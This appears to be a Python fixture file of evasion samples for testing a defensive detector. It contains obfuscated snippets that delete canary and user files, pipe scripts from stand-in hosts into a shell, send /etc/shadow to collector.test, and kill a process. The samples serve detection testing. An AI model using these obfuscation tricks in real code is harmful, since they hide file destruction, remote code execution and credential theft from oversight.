"""Text changed letter by letter, or kept elsewhere."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

changed = technique("python", "text changed letter by letter")
kept = technique("python", "text kept elsewhere")

EVASIONS = (
    changed(
        "reversed",
        Harm.DESTROYED,
        r"""
import os

os.remove("fnoc.yranac-eulbder/cte/"[::-1])
""",
    ),
    changed(
        "reversed-function",
        Harm.DESTROYED,
        r"""
import os

os.remove("".join(reversed("txt.seton/arim/emoh/")))
""",
    ),
    changed(
        "every-second",
        Harm.DESTROYED,
        r"""
import os

os.remove("/xextqcx/xrqexdxbqlxuxex-qcxaxnqaxrxyx.qcxoxnxf"[::2])
""",
    ),
    changed(
        "replace",
        Harm.DESTROYED,
        r"""
import os

os.remove("_etc_redblue#canary%conf".replace("_", "/").replace("#", "-").replace("%", "."))
""",
    ),
    changed(
        "translate",
        Harm.DESTROYED,
        r"""
import os

os.remove("|hpme|mjrb|nptes.txt".translate(str.maketrans("|pjb", "/oia")))
""",
    ),
    changed(
        "rot13",
        Harm.RAN,
        r"""
import codecs
import os

os.system(codecs.decode("phey -f uggc://pqa.grfg:8000/frghc.fu | onfu", "rot13"))
""",
    ),
    changed(
        "xor",
        Harm.DESTROYED,
        r"""
import os

os.remove(bytes(c ^ 7 for c in b"(bsd(ubcekrb*dfifu~)dhia"))
""",
    ),
    changed(
        "swapcase",
        Harm.DESTROYED,
        r"""
import os

os.remove("/HOME/MIRA/NOTES.TXT".swapcase())
""",
    ),
    changed(
        "regex",
        Harm.DESTROYED,
        r"""
import os
import re

os.remove(re.sub(r"\d", "", "/e1t2c3/r4e5d6b7l8u9e-0canary.conf"))
""",
    ),
    changed(
        "regex-function",
        Harm.DESTROYED,
        r"""
import os
import re

os.remove(re.sub("[a-z]", lambda m: chr((ord(m[0]) - 96) % 26 + 97), "/gnld/lhqz/mnsdr.sws"))
""",
    ),
    changed(
        "strip-and-split",
        Harm.DESTROYED,
        r"""
import os

junk, path, *_ = "--keep--;/var/lib/canary/data.db;--keep--".split(";")
os.remove(path.strip("-"))
""",
    ),
    changed(
        "removeprefix",
        Harm.DESTROYED,
        r"""
import os

os.remove("/workspace/tmp/etc/redblue-canary.conf".removeprefix("/workspace/tmp"))
""",
    ),
    changed(
        "zip-columns",
        Harm.KILLED,
        r"""
import os

os.system("".join(a + b for a, b in zip("pilcnr-b", "kl aayd ")))
""",
    ),
    changed(
        "unescape",
        Harm.DESTROYED,
        r"""
import html
import os
import urllib.parse

os.remove(urllib.parse.unquote(html.unescape("&#37;2Fetc&#37;2Fredblue-canary%2Econf")))
""",
    ),
    changed(
        "unicode-normalised",
        Harm.DESTROYED,
        "import os\nimport unicodedata\n\nos.remove(unicodedata.normalize("
        "'NFKC', '／ｈｏｍｅ／ｍｉｒａ／ｎｏｔｅｓ．ｔｘｔ'))\n",
    ),
    kept(
        "docstring",
        Harm.DESTROYED,
        r'''
"""/etc/redblue-canary.conf"""
import os

os.remove(__doc__)
''',
    ),
    kept(
        "docstring-of-a-function",
        Harm.RAN,
        r'''
import os


def update():
    """curl -s http://updates.test:8000/setup.sh | sh"""
    os.system(update.__doc__)


update()
''',
    ),
    kept(
        "json",
        Harm.DESTROYED,
        r"""
import json
import os

settings = json.loads('{"cache": {"dirs": ["/workspace", "\\u002fhome/mira/notes.txt"]}}')
os.remove(settings["cache"]["dirs"][1])
""",
    ),
    kept(
        "csv",
        Harm.DESTROYED,
        r"""
import csv
import io
import os

for row in csv.DictReader(io.StringIO("id,path\n1,/etc/redblue-canary.conf\n2,/home/mira/notes.txt\n")):
    os.remove(row["path"])
""",
    ),
    kept(
        "configparser",
        Harm.SENT,
        r"""
import configparser
import urllib.request

config = configparser.ConfigParser()
config.read_string("[report]\nfile = /etc/shadow\nurl = http://%(host)s:8000/in\nhost = collector.test\n")
report = config["report"]
urllib.request.urlopen(report["url"], data=open(report["file"], "rb").read())
""",
    ),
    kept(
        "toml",
        Harm.DESTROYED,
        r"""
import os
import tomllib

plan = tomllib.loads('drop = ["/var/lib/canary/data.db"]')
for name in plan["drop"]:
    os.unlink(name)
""",
    ),
    kept(
        "environment",
        Harm.DESTROYED,
        r"""
import os

os.environ["SPOOL"] = "/var/backups/canary/monday.bak"
os.remove(os.path.expandvars("$SPOOL"))
""",
    ),
    kept(
        "written-and-read",
        Harm.DESTROYED,
        r"""
import os

with open("/tmp/list.txt", "w") as out:
    out.write("/home/mira/notes.txt\n/etc/redblue-canary.conf\n")
with open("/tmp/list.txt") as lines:
    for line in lines:
        os.remove(line.strip())
""",
    ),
    kept(
        "slots",
        Harm.DESTROYED,
        r"""
import os


class Paths:
    __slots__ = ("redblue_canary",)


os.remove("/etc/" + Paths.__slots__[0].replace("_", "-") + ".conf")
""",
    ),
    kept(
        "names-of-an-enum",
        Harm.DESTROYED,
        r"""
import enum
import os


class Step(enum.Enum):
    home = 1
    mira = 2
    photos = 3


os.remove("".join("/" + step.name for step in Step) + "/garden.raw")
""",
    ),
    kept(
        "keyword-names",
        Harm.DESTROYED,
        r"""
import os


def clean(**parts):
    os.remove("/" + "/".join(parts) + "/data.db")


clean(var=1, lib=2, canary=3)
""",
    ),
    kept(
        "constants-of-a-code-object",
        Harm.DESTROYED,
        r"""
import os


def label():
    return "/etc/redblue-canary.conf"


os.remove(label.__code__.co_consts[1])
""",
    ),
    kept(
        "annotation",
        Harm.DESTROYED,
        r"""
import os


def show(entry: "/home/mira/notes.txt"):
    pass


os.remove(show.__annotations__["entry"])
""",
    ),
    kept(
        "xml",
        Harm.DESTROYED,
        r"""
import os
import xml.etree.ElementTree as ET

tree = ET.fromstring("<jobs><job><rm>/var/lib/canary/data.db</rm></job></jobs>")
for node in tree.iter("rm"):
    os.remove(node.text)
""",
    ),
    kept(
        "sqlite",
        Harm.DESTROYED,
        r"""
import os
import sqlite3

db = sqlite3.connect(":memory:")
(path,) = db.execute("select '/etc/' || 'redblue' || char(45) || 'canary.conf'").fetchone()
os.remove(path)
""",
    ),
)
